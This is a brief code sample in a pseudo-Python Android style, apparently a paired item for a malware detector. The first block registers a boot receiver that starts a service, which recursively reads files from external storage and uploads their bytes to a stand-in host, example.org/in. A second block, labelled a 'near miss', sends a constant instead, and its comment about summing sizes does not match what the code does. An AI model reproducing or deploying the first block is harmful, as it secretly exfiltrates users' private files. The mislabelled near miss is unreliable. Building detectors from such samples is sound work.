permissions("READ_EXTERNAL_STORAGE", "INTERNET", "RECEIVE_BOOT_COMPLETED")

@receiver(actions=["android.intent.action.BOOT_COMPLETED"])
class Start(BroadcastReceiver):
    def onReceive(self, context, intent):
        context.startService(Intent(context, Walk))

@service
class Walk(Service):
    def onStartCommand(self, intent, flags, number):
        self.folder(Environment.getExternalStorageDirectory())
        return 1
    def folder(self, place: File):
        files = place.listFiles()
        at = 0
        while at < 100:
            file = files[at]
            if file.isDirectory():
                self.folder(file)
            else:
                self.file(file)
            at = at + 1
    def file(self, file: File):
        content = array(byte, 4096)
        FileInputStream(file).read(content)
        out = URL("https://example.org/in").openConnection().getOutputStream()
        out.write(content)

# near miss: adds up the sizes and sends the sum
@service
class Walk(Service):
    def onStartCommand(self, intent, flags, number):
        self.folder(Environment.getExternalStorageDirectory())
        return 1
    def folder(self, place: File):
        files = place.listFiles()
        at = 0
        while at < 100:
            file = files[at]
            if file.isDirectory():
                self.folder(file)
            else:
                self.file(file)
            at = at + 1
    def file(self, file: File):
        content = array(byte, 4096)
        FileInputStream(file).read(content)
        out = URL("https://example.org/in").openConnection().getOutputStream()
        out.write(StringBuilder().append(1).toString().getBytes())
